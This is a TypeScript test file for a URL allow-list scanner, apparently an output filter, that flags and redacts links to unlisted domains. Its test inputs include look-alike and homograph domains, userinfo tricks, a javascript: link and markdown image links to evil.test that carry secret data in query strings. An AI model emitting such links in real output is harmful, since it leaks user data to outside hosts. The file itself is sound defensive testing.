import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { runInChild } from '../../../test/support/child.ts';
import type { ScanContext } from '../types.ts';
import { findDisallowedUrls, hostOf, normalizeDomain, urls } from './index.ts';

const allowed = ['example.com', 'docs.python.org', 'bücher.de'].map(normalizeDomain);
const flagged = (text: string) => findDisallowedUrls(text, allowed).map((f) => text.slice(f.start, f.end));

describe('urls', () => {
  it('parses hosts like a browser', () => {
    assert.equal(hostOf('https://EXAMPLE.com./a'), 'example.com');
    assert.equal(hostOf('https://example.com@evil.test/x'), 'evil.test');
    assert.equal(hostOf('https://evil.test\\@example.com'), 'evil.test');
    assert.equal(hostOf('https://bücher.de/'), 'xn--bcher-kva.de');
    assert.equal(hostOf('javascript:alert(1)'), 'javascript:');
    assert.equal(hostOf('/relative/path'), undefined);
  });

  it('allows listed domains and their subdomains', () => {
    assert.deepEqual(
      flagged('See https://example.com/a, https://www.example.com and [docs](https://docs.python.org/3/).'),
      [],
    );
    assert.deepEqual(flagged('Shop at https://xn--bcher-kva.de or https://bücher.de/buch'), []);
  });

  it('flags other domains, look-alikes, userinfo tricks, IDN homographs and markdown images', () => {
    assert.deepEqual(flagged('go to https://notexample.com/login'), ['https://notexample.com/login']);
    assert.deepEqual(flagged('go to https://example.com.evil.test/'), ['https://example.com.evil.test/']);
    assert.deepEqual(flagged('login at https://example.com@evil.test/'), ['https://example.com@evil.test/']);
    assert.deepEqual(flagged('visit https://еxample.com/'), ['https://еxample.com/']); // Cyrillic е
    assert.deepEqual(flagged('![chart](https://evil.test/p.png?d=SECRET "t")'), [
      '![chart](https://evil.test/p.png?d=SECRET "t")',
    ]);
    assert.deepEqual(flagged('[click](javascript:alert(1))'), ['[click](javascript:alert(1))']);
    assert.deepEqual(flagged('see www.evil.test/page and evil.io/x'), ['www.evil.test/page', 'evil.io/x']);
  });

  it('finds links inside odd constructs and long hosts by the labels that decide them', () => {
    assert.ok(flagged('[a [b] c](https://evil.test/x)').some((f) => f.includes('https://evil.test/x')));
    assert.deepEqual(flagged('[x](http://[2001:db8::1]/steal?d=1)'), ['[x](http://[2001:db8::1]/steal?d=1)']);
    assert.deepEqual(flagged('![i](https://evil.test/?q=[DATA])'), ['https://evil.test/?q=[DATA']);
    assert.deepEqual(flagged('<div title="x"><a class="c" href="https://evil.test/">'), [
      '<a class="c" href="https://evil.test/',
    ]);
    const long = 'a.b.c.d.e.f.g.h.i.j';
    assert.deepEqual(flagged(`see ${long}.evil.io/x`), ['d.e.f.g.h.i.j.evil.io/x']);
    assert.deepEqual(flagged(`see ${long}.docs.python.org/3`), []);
  });

  it('scans runs that once took time quadratic in their length in linear time', () => {
    // 64 KB of ".a" took 8.6 s: every label started a walk over all the labels after it. At 256 KB
    // that is minutes; linear, it is milliseconds.
    const run = runInChild(
      `const { findDisallowedUrls } = await import(${JSON.stringify(new URL('./index.ts', import.meta.url).href)});
      for (const unit of ['.a', 'a.', '.a-b', '.1']) findDisallowedUrls(unit.repeat(256_000 / unit.length), []);
      console.log('scanned');`,
      60_000,
    );
    assert.equal(run.signal, null, 'the scan did not finish within a minute');
    assert.equal(run.stdout.trim(), 'scanned', run.stderr);
  });

  it('ignores mail addresses, file names and relative links', () => {
    assert.deepEqual(flagged('mail me at someone@evil.test, open index.ts, see [here](/docs/page)'), []);
  });

  it('redacts whole markdown constructs', async () => {
    const s = urls({ allowedDomains: ['example.com'] });
    const ctx: ScanContext = { direction: 'output', state: { requestId: 'r', vault: new Map() } };
    const text = 'Result: ![x](https://evil.test/?q=data) and https://example.com/ok';
    const r = await s.scan(text, ctx);
    assert.equal(
      s.rewrite!(text, r.findings, ctx, 'redact'),
      'Result: [REDACTED:url:domain] and https://example.com/ok',
    );
  });
});
